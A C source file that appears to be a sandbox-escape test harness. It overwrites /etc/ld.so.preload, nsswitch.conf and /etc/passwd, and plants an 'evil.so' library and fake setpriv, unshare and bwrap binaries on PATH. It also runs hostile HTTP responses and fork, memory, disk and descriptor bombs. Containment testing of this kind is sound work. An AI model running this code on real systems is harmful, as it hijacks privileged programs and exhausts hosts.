/* The restored application: it poisons what others may load, answers, and, when asked, answers badly. And what bombs do. */
#define _GNU_SOURCE
#include "attack.h"

/* Where baits, and what is known of who took them, lie. */
static char lair[200];

/* A small file whole; what is ours knows the lair from then on. */
static int copy(const char *from, const char *to) {
  static char buffer[1 << 20];
  int in = open(from, O_RDONLY), out = in < 0 ? -1 : open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (out < 0) return errno;
  ssize_t n = read(in, buffer, sizeof buffer);
  char *mark = n > 0 ? memmem(buffer, n, "@LAIR@", 6) : 0;
  if (mark) strcpy(mark, lair);
  if (write(out, buffer, n) < 0) return errno;
  close(in);
  fchmod(out, 0755);
  close(out);
  return 0;
}

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return errno;
  int error = write(fd, text, strlen(text)) < 0 ? errno : 0;
  close(fd);
  return error;
}

static FILE *report;
static void report_poison(const char *what, int error) { fprintf(report, "%s %d\n", what, error); }

/* Everything that a program with more rights may load or execute by a name that we can write. */
static void poison(void) {
  char path[4096], text[4096], space[64] = "";
  snprintf(lair, sizeof lair, "%s/lair", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
  mkdir(lair, 0777);
  chmod(lair, 0777);
  snprintf(path, sizeof path, "%s/report", lair);
  report = fopen(path, "w");
  if (!report) return;
  if (readlink("/proc/self/ns/mnt", space, sizeof space - 1) < 0) strcpy(space, "?");
  snprintf(path, sizeof path, "%s/home", lair);
  put(path, space);
  const char *libraries[] = { "evil.so", "libnss_evil.so.2" };
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "%s/%s", lair, libraries[i]);
    copy(beside("evil.so"), path);
  }
  snprintf(text, sizeof text, "%s/evil.so\n", lair);
  report_poison("preload", put("/etc/ld.so.preload", text));
  report_poison("nsswitch", put("/etc/nsswitch.conf", "hosts: evil files dns\npasswd: evil files\ngroup: evil files\nprotocols: evil files\nservices: evil files\n"));
  report_poison("gai", put("/etc/gai.conf", "label ::1/128 0\n"));
  /* The library must be found for the switch to load it: by the cache, or in a folder that is searched. */
  snprintf(text, sizeof text, "%s\n", lair);
  int error = put("/etc/ld.so.conf.d/evil.conf", text);
  if (!error && !fork()) { execl("/sbin/ldconfig", "ldconfig", (char *)0); _exit(1); }
  while (wait(0) > 0);
  report_poison("ldcache", error ? error : put("/etc/ld.so.cache-x", ""));
  snprintf(text, sizeof text, "/lib/x86_64-linux-gnu/libnss_evil.so.2");
  report_poison("library", copy(beside("evil.so"), text));
  report_poison("passwd", put("/etc/passwd", "root:x:0:0::/:/bin/sh\n"));
  report_poison("openssl", put("/etc/ssl/openssl.cnf", "openssl_conf = x\n"));
  /* Programs that a supervisor may look up by PATH. */
  const char *programs[] = { "setpriv", "unshare", "bwrap", "ip", "mount", "newuidmap" };
  char *folders = strdup(getenv("PATH") ? getenv("PATH") : "/usr/bin"), *state = 0;
  int worst = ENOENT;
  for (char *folder = strtok_r(folders, ":", &state); folder; folder = strtok_r(0, ":", &state))
    for (int i = 0; i < 6; i++) {
      snprintf(path, sizeof path, "%s/%s", folder, programs[i]);
      unlink(path);
      int here = copy(beside("evil-program"), path);
      if (worst) worst = here;
    }
  report_poison("path", worst);
  fclose(report);
}

/* Whether anything with more rights than ours took the bait. */
void poisoned(void) {
  char path[4096], what[32], bait[64] = "";
  int error;
  snprintf(lair, sizeof lair, "%s/lair", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
  snprintf(path, sizeof path, "%s/report", lair);
  FILE *f = fopen(path, "r");
  if (!f) return;
  while (fscanf(f, "%31s %d", what, &error) == 2) note(what, error ? error : UNHEARD);
  fclose(f);
  snprintf(path, sizeof path, "%s/privileged", lair);
  if ((f = fopen(path, "r"))) {
    if (fscanf(f, "%40s", bait) != 1) *bait = 0;
    fclose(f);
  }
  note(*bait ? bait : "taken", *bait ? 0 : NOTHING);
}

static void say(int fd, const char *text) { if (write(fd, text, strlen(text)) < 0) _exit(0); }

static void answer(int fd) {
  char request[4096];
  ssize_t n = read(fd, request, sizeof request - 1);
  if (n <= 0) return;
  request[n] = 0;
  if (strstr(request, " /endless")) {
    static char block[65536];
    say(fd, "HTTP/1.1 200 OK\r\n\r\n");
    for (;;) if (write(fd, block, sizeof block) < 0) _exit(0);
  }
  if (strstr(request, " /slow")) for (say(fd, "HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n");; sleep(1)) say(fd, "x");
  if (strstr(request, " /headers")) for (say(fd, "HTTP/1.1 200 OK\r\n");;) say(fd, "x-more: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n");
  if (strstr(request, " /early")) for (;;) say(fd, "HTTP/1.1 103 Early Hints\r\nlink: </x>\r\n\r\n");
  if (strstr(request, " /chunks")) for (say(fd, "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n");;) say(fd, "1;extension=aaaaaaaaaaaaaaaa\r\nx\r\n");
  if (strstr(request, " /never")) for (;;) sleep(1000);
  if (strstr(request, " /round")) return say(fd, "HTTP/1.1 302 Found\r\nlocation: /round\r\ncontent-length: 0\r\n\r\n");
  if (strstr(request, " /garbage")) return say(fd, "\x01\x02\x03 not http at all\r\n\r\n");
  say(fd, "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok");
}

int serve(void) {
  alarm(0);
  signal(SIGCHLD, SIG_IGN);
  signal(SIGPIPE, SIG_IGN);
  struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT"))) };
  int server = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
  if (bind(server, (void *)&address, sizeof address) || listen(server, 64)) { perror("listen"); return 1; }
  signal(SIGCHLD, SIG_DFL);
  poison();
  signal(SIGCHLD, SIG_IGN);
  for (;;) {
    int fd = accept(server, 0, 0);
    if (fd < 0) continue;
    if (fork() == 0) { answer(fd); _exit(0); }
    close(fd);
  }
}

/* A process of the host that nobody in a drill may touch, and that hears with every ear a host has. It says what it got. */
static void told(int signal) { dprintf(1, "signal %d\n", signal); }

static int listen_on(const char *place) {
  struct sockaddr_un address = { .sun_family = AF_UNIX };
  const char *path = strchr(place, ':') + 1;
  mode_t open_to_all = umask(0);
  int fd = -1;
  if (!strncmp(place, "fifo:", 5)) {
    mkfifo(path, 0666);
    fd = open(path, O_RDWR | O_NONBLOCK);
  } else {
    int abstract = !strncmp(place, "abstract:", 9);
    fd = socket(AF_UNIX, strncmp(place, "dgram:", 6) ? SOCK_STREAM : SOCK_DGRAM, 0);
    strncpy(address.sun_path + abstract, path, sizeof address.sun_path - 2);
    if (bind(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + abstract + strlen(path) + !abstract)) fd = -1;
    listen(fd, 16);
  }
  umask(open_to_all);
  return fd;
}

static int listen_at_port(int type, int *port) {
  struct sockaddr_in address = { .sin_family = AF_INET };
  socklen_t length = sizeof address;
  inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
  int fd = socket(AF_INET, type, 0);
  if (bind(fd, (void *)&address, sizeof address)) return -1;
  listen(fd, 16);
  getsockname(fd, (void *)&address, &length);
  *port = ntohs(address.sin_port);
  return fd;
}

int victim(int count, char **places) {
  alarm(0);
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (int signal = 1; signal < 32; signal++) if (signal != SIGTERM && signal != SIGCHLD) sigaction(signal, &(struct sigaction){ .sa_handler = told }, 0);
  struct pollfd ears[64] = { 0 };
  int tcp, udp;
  for (int i = 0; i < count && i < 60; i++) ears[i] = (struct pollfd){ listen_on(places[i]), POLLIN, 0 };
  ears[count] = (struct pollfd){ listen_at_port(SOCK_STREAM, &tcp), POLLIN, 0 };
  ears[count + 1] = (struct pollfd){ listen_at_port(SOCK_DGRAM, &udp), POLLIN, 0 };
  /* Others find it by our number. It goes when the test removes it. */
  int segment = shmget(getpid(), 4096, IPC_CREAT | 0666);
  if (segment < 0) return 1;
  for (int i = 0; i < count + 2; i++) if (ears[i].fd < 0) { dprintf(1, "deaf at %s\n", i < count ? places[i] : "port"); return 1; }
  dprintf(1, "ready %d %d\n", tcp, udp);
  for (;;) {
    if (poll(ears, count + 2, -1) < 0) continue;
    for (int i = 0; i < count + 2; i++) if (ears[i].revents) {
      dprintf(1, "heard %s\n", i < count ? places[i] : i == count ? "tcp" : "udp");
      ears[i].fd = -1;
    }
  }
}

/*
 * ---- bombs: each takes until it is refused, and then is gone at once with what it took, as a careless program would be. One that took
 * more than a bomb needs stops by itself, before it would hurt a machine without limits, and says so.
 */

static void *hold(void *unused) { for (;;) pause(); }

static long forks(long most) {
  long made = 0;
  for (; made < most; made++) {
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) { prctl(PR_SET_PDEATHSIG, SIGKILL); for (;;) pause(); }
  }
  return made;
}

static long threads(long most) {
  long made = 0;
  pthread_attr_t small;
  pthread_t thread;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  while (made < most && !pthread_create(&thread, &small, hold, 0)) made++;
  return made;
}

/* MiB, touched: of its own, of files without a name, or shared with a child that nobody waits for. */
static long memory(const char *kind, long most) {
  size_t step = 1 << 20;
  long had = 0;
  for (; had < most; had++) {
    int fd = strcmp(kind, "memfd") ? -1 : memfd_create("bomb", 0);
    if (!strcmp(kind, "memfd")) {
      static char block[1 << 20];
      if (fd < 0 || write(fd, block, step) != (ssize_t)step) break;
      continue;
    }
    char *piece = mmap(0, step, PROT_READ | PROT_WRITE, MAP_ANONYMOUS | (strcmp(kind, "shared") ? MAP_PRIVATE : MAP_SHARED), -1, 0);
    if (piece == MAP_FAILED) break;
    memset(piece, 1, step);
  }
  return had;
}

/* Many processes, of which none takes much. */
static long crowd(long most) {
  for (int i = 0; i < 20; i++) if (fork() == 0) { memory("memory", most / 20); for (;;) pause(); }
  while (wait(0) > 0);
  return 0;
}

/* MiB in one file; without a name when it ends in `-unnamed`. */
static long file(const char *folder, int unnamed, long most) {
  char path[4096];
  static char block[1 << 20];
  snprintf(path, sizeof path, "%s/bomb", folder);
  int fd = open(path, O_WRONLY | O_CREAT, 0600);
  if (unnamed) unlink(path);
  memset(block, 1, sizeof block);
  long had = 0;
  while (fd >= 0 && had < most && write(fd, block, sizeof block) == sizeof block) had++;
  return had;
}

static long many_files(long most) {
  char path[4096];
  long made = 0;
  for (; made < most; made++) {
    if (made % 1000 == 0) { snprintf(path, sizeof path, "%s/%ld", getenv("HOME"), made / 1000); if (mkdir(path, 0700)) break; }
    snprintf(path, sizeof path, "%s/%ld/%ld", getenv("HOME"), made / 1000, made);
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) break;
    close(fd);
  }
  return made;
}

static long descriptors(int copies, long most) {
  long had = 0;
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  while (had < most && (copies ? dup(1) : open("/dev/null", O_RDONLY)) >= 0) had++;
  /* A thousand take a millisecond. Only who still has them when somebody looks is seen. */
  sleep(5);
  return had;
}

/* Many processes, of which none has many. */
static long crowded_descriptors(void) {
  for (int i = 0; i < 40; i++) if (fork() == 0) { descriptors(1, 900); for (;;) pause(); }
  while (wait(0) > 0);
  return 0;
}

int bomb(const char *kind) {
  alarm(60);
  signal(SIGCHLD, SIG_DFL);
  signal(SIGPIPE, SIG_DFL);
  long most = conf_number(kind), had =
    !strcmp(kind, "forks") ? forks(most) : !strcmp(kind, "threads") ? threads(most)
    : !strcmp(kind, "crowd") ? crowd(most) : !strcmp(kind, "descriptors") ? descriptors(0, most)
    : !strcmp(kind, "copies") ? descriptors(1, most) : !strcmp(kind, "crowded-descriptors") ? crowded_descriptors()
    : !strcmp(kind, "disk") ? file(getenv("HOME"), 0, most) : !strcmp(kind, "unnamed") ? file(getenv("HOME"), 1, most)
    : !strcmp(kind, "tmp") ? file("/tmp", 0, most) : !strcmp(kind, "shm") ? file("/dev/shm", 0, most)
    : !strcmp(kind, "files") ? many_files(most) : memory(kind, most);
  printf("%s took %ld of %ld | %s\n", kind, had, most, had < most ? "stopped" : "NOT STOPPED");
  fflush(stdout);
  /* An application that is refused memory, processes or room has failed: whose fault it was the drill must tell. */
  return had < most ? 1 : 9;
}
